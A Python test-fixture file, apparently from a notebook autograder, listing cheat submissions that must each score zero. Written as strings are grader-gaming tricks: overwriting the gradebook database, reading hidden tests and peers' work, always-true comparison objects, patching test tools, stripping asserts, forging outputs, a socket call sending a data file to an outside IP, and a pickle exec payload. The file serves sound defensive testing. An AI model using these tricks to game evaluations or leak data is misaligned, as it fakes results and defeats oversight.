"""Submissions that want points without an answer: each earns nothing where it solved nothing.

`says` names the sign an instructor sees. Three kinds leave none, and no engine could show one:
forged outputs (every notebook has outputs), hard-coded visible tests (a short function), and
objects made by a library. They earn nothing all the same.
"""

from __future__ import annotations

from corpus.given import Case, Given, Notebook, answering, body, cell

__all__ = ["CHEATS"]

_ALWAYS = "    def __init__(self, *a): pass\n" + "".join(
    f"    def __{name}__(self, *a): return True\n"
    for name in ("eq", "ne", "lt", "le", "gt", "ge", "bool", "contains")
)
_OBJECT = f"class Yes:\n{_ALWAYS}    __hash__ = None\n"


def _forged(given: Given) -> Notebook:
    notebook = given.right(total_usd="pass")
    test = cell(notebook, "test_total_usd")
    test["outputs"] = [
        {
            "output_type": "execute_result",
            "data": {"text/plain": "2"},
            "metadata": {},
            "execution_count": 1,
        }
    ]
    test["metadata"]["nbgrader"]["score"] = 2
    return notebook


CHEATS = (
    Case("writes the gradebook", answering("import sqlite3, os\nfor folder, _, files in os.walk('/'):\n    for f in files:\n        if f == 'gradebook.db' and 'site-packages' not in folder: sqlite3.connect(os.path.join(folder, f)).execute('update grade set manual_score = 9'); print('wrote', folder)"), total=0, says="opens a database"),
    Case("reads hidden tests on disk", answering("import os\nfor folder, _, files in os.walk('/'):\n    for f in files:\n        if f.endswith(('.ipynb', 'lab00_tiny.py')) and 'site-packages' not in folder: print('FOUND', folder, f)"), total=0, says="names a file"),
    Case("reads peers", answering("import glob\nprint('FOUND', glob.glob('/**/submitted/*', recursive=True) or '')\ndef total_usd(p): return open('/work/submitted/ada/lab00_tiny.ipynb').read()"), total=0, says="names a file"),
    Case("searches memory for the tests", answering("import gc\nprint('FOUND' if any(isinstance(o, dict) and 'running' + '_total' in str(o.get('source')) for o in gc.get_objects()) else 'nothing')"), total=0, says="memory"),
    Case("looks at its callers", body("import sys", "f = sys._getframe()", "while f:", "    for k, v in f.f_locals.items():", "        if k == 'want': return v", "    f = f.f_back"), total=0, says="looks at its callers"),
    Case("always-true equality and order", answering(_OBJECT + "def total_usd(p): return Yes()"), total=0, says="answers comparisons itself"),
    Case("a float of its own", answering("class Yes(float):\n" + _ALWAYS + "def total_usd(p): return Yes(1)"), total=0, says="a kind of float of its own"),
    Case("an array of its own", answering("import numpy as np\nclass Yes(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.True_\n" + _ALWAYS.replace("    def __init__(self, *a): pass\n", "") + "def total_usd(p): return np.ones(1)[0:1].view(Yes).reshape(())"), total=0, says="answers comparisons itself"),
    Case("an object NumPy asks", answering("class Yes:\n    __array_priority__ = 1e9\n    def __array__(self, *a, **k): return self\n    def __array_ufunc__(self, *a, **k): return True\n    def __array_function__(self, *a, **k): return True\n    def __float__(self): return 7.0\ndef total_usd(p): return Yes()"), total=0, says="answers comparisons itself"),
    Case("a difference that is always none", answering("class Yes:\n    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\n    def __abs__(self): return 0.0\ndef total_usd(p): return Yes()"), total=0, says="answers comparisons itself"),
    Case("a kind of str that lies", answering("class S(str):\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__\ndef total_usd(p): return S('7')"), total=0, says="a kind of str of its own"),
    Case("patches the checks", answering("check.agrees = check.number = check.same = lambda *a, **k: None\nimport supercycle.check as c\nc.agrees = c.number = check.agrees\ndef total_usd(p): return 1.0"), total=0),
    Case("redefines check", answering("class check:\n    agrees = number = ok = refuses = staticmethod(lambda *a, **k: None)\ndef total_usd(p): return 1.0"), total=0, says="redefines check"),
    Case("patches numpy.testing", answering("import numpy as np\nnp.testing.assert_allclose = np.allclose = lambda *a, **k: True\ndef total_usd(p): return 1.0"), total=0, says="touches the tests' own tools"),
    Case("rewrites assertions", answering("import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\nget_ipython().ast_transformers.append(T())\n"), total=0, says="rewrites code"),
    Case("hooks tracebacks", answering("get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\nimport sys\nsys.excepthook = lambda *a: None\nget_ipython().showtraceback = lambda *a, **k: None"), total=0, says="changes how errors are shown"),
    Case("hooks imports", answering("import sys\nclass F:\n    @staticmethod\n    def find_spec(name, *a): sys.modules['supercycle.check'].agrees = print\nsys.meta_path.insert(0, F)\nsys.modules['supercycle.check'].number = print"), total=0, says="changes how modules are imported"),
    Case("forges outputs", _forged, total=0),
    Case("takes answers from the environment", body("import os", "return float(os.environ.get('ANSWER', os.environ.get('SECRET', 'nan')))"), total=0, says="reads the environment"),
    Case("asks the network", body("import urllib.request", "return float(urllib.request.urlopen('http://93.184.216.34/', timeout=1).read())"), total=0, says="network"),
    Case("sends answers away", answering("import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect(('93.184.216.34', 80))\ns.send(open('prices.csv').read())"), total=0, says="network"),
    Case("hard-codes the visible test", body("return 1.0"), total=0),
    Case("raises instead of failing", body("raise SystemExit(0)"), total=0),
    Case("ends the tests' loops", body("raise StopIteration"), total=0, says="RuntimeError"),
    Case("looks for the expected value", body("for name in list(globals()):", "    if 'want' in name or 'expected' in name: return globals()[name]", "return 1.0"), total=0),
    Case("copies itself into the test's process", answering("class Evil:\n    def __reduce__(self): return (exec, (\"import os; os._exit(0)\",))\ndef total_usd(p): return Evil()"), total=0, says="Evil"),
)  # fmt: skip
